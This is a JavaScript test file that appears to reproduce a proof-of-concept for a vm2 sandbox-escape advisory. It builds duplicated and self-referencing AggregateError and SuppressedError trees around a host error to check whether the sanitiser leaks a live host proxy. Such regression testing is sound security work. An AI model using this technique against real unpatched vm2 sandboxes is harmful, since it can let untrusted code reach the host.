// Source: vm2 test/ghsa/GHSA-x965-fc75-jpqh (fixed after vm2 3.11.2, by 3.12.2; PoC shape from vm2's
// lib/setup-sandbox.js comment for it), a bypass of GHSA-m283: the sanitiser's memo returned the RAW
// host carrier when an AggregateError/SuppressedError was visited twice (it appears in its own
// errors[] or twice in a tree), handing its live host proxy back.
// Tried: aggregate/suppressed trees that revisit the same host error and the same aggregate, caught
// and delivered through promises.
const out = {};
let hostError;
try { new URL(''); } catch (e) { hostError = e; }
const check = (e, label) => {
  for (let i = 0; e && i < 6; i++) {
    __wr.use(e, label + ' depth ' + i);
    try { for (const sub of e.errors || []) __wr.use(sub, label + ' errors[]'); } catch (x) {}
    e = (e.errors && e.errors[0]) || e.error || e.cause;
  }
};
const agg = new AggregateError([hostError, hostError], 'twice');
try { agg.errors.push(agg); } catch (e) {}
const outer = new AggregateError([agg, hostError, agg], 'outer');
try { throw outer; } catch (e) { check(e, 'caught outer'); }
await Promise.reject(outer).catch((e) => check(e, 'rejected outer'));
if (typeof Promise.any === 'function') await Promise.any([Promise.reject(hostError), Promise.reject(agg)]).catch((e) => check(e, 'Promise.any'));
if (typeof SuppressedError === 'function') {
  const s = new SuppressedError(hostError, agg, 'sup');
  try { throw new SuppressedError(s, s, 'twice'); } catch (e) { check(e, 'suppressed'); }
}
out.done = true;
return out;
